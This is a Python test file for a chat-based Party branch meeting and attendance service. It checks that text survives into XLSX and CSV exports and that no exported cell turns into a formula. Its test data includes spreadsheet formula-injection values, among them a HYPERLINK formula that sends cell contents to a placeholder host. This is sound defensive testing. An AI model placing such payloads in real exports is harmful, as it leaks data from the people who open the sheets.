"""Meetings keep what people wrote (topic, place, record, leave reasons) from the chat through to the
sign-in sheet files, and no exported cell is ever a formula."""

from __future__ import annotations

import csv
from datetime import date

import openpyxl
from sqlalchemy import update

from handlers.meetings.export import export_attendance
from harness import HONGQI, hongqi_branch
from storage.models import Meeting
from test_meetings import at, call

# Full-width brackets, colon and quotes, and the final 。: the form used for matching commands folds or
# trims every one of them.
TOPIC = "学习《中国共产党章程》：第一章“党员”。"
PLACE = "村委会（二楼）会议室"
HOST = "李建国（书记）"
RECORDER = "王秀英。"
MINUTES = "一、传达全会精神；\n二、大家结合村里产业发展谈体会……\n三、其他。"
RESOLUTIONS = "1. 同意推荐张三为入党积极分子；\n2. 冬季组织一次产业培训。"
VOTES = "同意 5，反对 0，弃权 0。"
REASON = "孩子发烧，去县医院……明天回来。"


async def export(service, path):
    return await export_attendance(service.sessions, org_path=HONGQI, start=date(2026, 11, 1), end=date(2026, 11, 30),
                                   out=path, zone=service.settings.zone)


def csv_rows(path) -> list[dict]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


async def test_topic_place_record_and_leave_reason_stay_as_written_through_to_the_export(service, tmp_path):
    people = await hongqi_branch(service)
    secretary = people["李建国"]
    replies, meeting = await call(service, secretary, place=PLACE, topic=TOPIC)
    assert f"地点：{PLACE}" in replies[-2] and f"议题：{TOPIC}" in replies[-2]
    await service.deliver()
    assert f"地点：{PLACE}\n议题：{TOPIC}\n" in service.pushed(people["王秀英"])[-1]

    assert (await service.say(people["刘小梅"], f"请假 {REASON}")).endswith(f"\n原因：{REASON}")
    await service.deliver()
    assert any(text.startswith(f"刘小梅 请假：{REASON}\n会议：") for text in service.pushed(secretary))
    assert (await service.say(secretary, "同意")).startswith("已同意 刘小梅 的请假")

    at(service, 11, 25, 14, 55)
    assert f"“{TOPIC}”" in await service.say(people["王秀英"], f"签到 {meeting.checkin_code}")
    at(service, 11, 25, 16, 30)
    await service.say(secretary, "会议记录")
    for answer in (HOST, RECORDER, MINUTES, RESOLUTIONS):
        await service.say(secretary, answer)
    saved = await service.say(secretary, VOTES)
    assert f"主持人：{HOST}\n记录人：{RECORDER}\n" in saved and f"表决：{VOTES}\n" in saved
    report = await service.say(secretary, "签到情况")
    assert report.startswith(f"支部党员大会“{TOPIC}”\n11月25日（周三）15:00，{PLACE}\n")
    assert f"请假：刘小梅（{REASON}）" in report
    async with service.sessions() as session:
        assert (await session.get(Meeting, meeting.id)).minutes == MINUTES  # not exported; kept all the same

    rows = [list(row) for row in openpyxl.load_workbook(
        (await export(service, tmp_path / "sheet.xlsx")).path).active.iter_rows(values_only=True)]
    facts = {row[0]: row[1] for row in rows}
    assert (facts["会议地点"], facts["会议主题"], facts["主持人"], facts["记录人"]) == (PLACE, TOPIC, HOST, RECORDER)
    assert (facts["决议"], facts["表决情况"]) == (RESOLUTIONS, VOTES)
    assert [row[4] for row in rows if row[1] == "刘小梅"] == [f"请假：{REASON}"]

    by_name = {row["姓名"]: row for row in csv_rows((await export(service, tmp_path / "sheet.csv")).path)}
    assert {key: by_name["刘小梅"][key] for key in ("地点", "主题", "主持人", "记录人", "备注")} == \
        {"地点": PLACE, "主题": TOPIC, "主持人": HOST, "记录人": RECORDER, "备注": f"请假：{REASON}"}


# Each starts with a character that makes Excel, LibreOffice or WPS read a cell as a formula (OWASP).
NAMES = ['=HYPERLINK("http://x.example/?"&A1,"点我")', "+8613800000000", "-李明", "@王芳", "\t赵六", "\r钱七"]
TYPED = {"topic": "=1+2", "place": "+村委会", "host": "-李建国", "recorder": "@SUM(1,1)"}
# Trimmed from chat messages, but a field can begin with them by other ways in (the database, a console).
STORED = {"resolutions": "\t同意", "votes": "\r=1+1"}


def in_xlsx(typed: str) -> str:
    # XML, which XLSX is, reads a bare carriage return as a line feed (every reader, Excel too).
    return typed.replace("\r", "\n")


async def test_no_exported_cell_is_a_formula_and_each_shows_what_was_typed(service, tmp_path):
    people = await hongqi_branch(service)
    secretary = people["李建国"]
    for name in NAMES:
        await service.add_member(name, HONGQI)
    _, meeting = await call(service, secretary, place=TYPED["place"], topic=TYPED["topic"])
    at(service, 11, 25, 16, 30)
    await service.say(secretary, "会议记录")
    for answer in (TYPED["host"], TYPED["recorder"], "跳过", "跳过", "跳过"):
        await service.say(secretary, answer)
    async with service.sessions() as session, session.begin():
        await session.execute(update(Meeting).where(Meeting.id == meeting.id).values(**STORED))

    workbook = openpyxl.load_workbook((await export(service, tmp_path / "sheet.xlsx")).path)
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    shown = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
    for typed in [*NAMES, *TYPED.values(), *STORED.values()]:
        cell = shown[in_xlsx(typed)]  # exactly the characters typed: no apostrophe, nothing cut
        assert cell.data_type == "s" and cell.quotePrefix  # text, and stays text when edited in Excel
    assert not shown["王秀英"].quotePrefix

    rows = csv_rows((await export(service, tmp_path / "sheet.csv")).path)
    names = [row["姓名"] for row in rows]
    assert [name for name in names if name.startswith("'")] == ["'" + name for name in NAMES]
    assert "王秀英" in names  # an ordinary cell gets nothing
    assert {(row["主题"], row["地点"], row["主持人"], row["记录人"]) for row in rows} == \
        {("'" + TYPED["topic"], "'" + TYPED["place"], "'" + TYPED["host"], "'" + TYPED["recorder"])}


async def test_length_limits_count_the_text_as_written(service):
    people = await hongqi_branch(service)
    secretary = people["李建国"]
    for answer in ("开会", "1", "明天下午3点", "村委会"):
        await service.say(secretary, answer)
    # 200 characters and the final 。 make 201: one more than a topic may have, as written and as stored.
    assert await service.say(secretary, "学" * 200 + "。") == "太长了（最多 200 字），请精简后重新回复。"
    assert "应到 6 人" in await service.say(secretary, "学" * 199 + "。")
    assert (await service.say(secretary, "1")).startswith("会议已召集")
    assert await service.say(people["王秀英"], "请假 " + "病" * 200 + "。") == "太长了（最多 200 字），请精简后重新回复。"
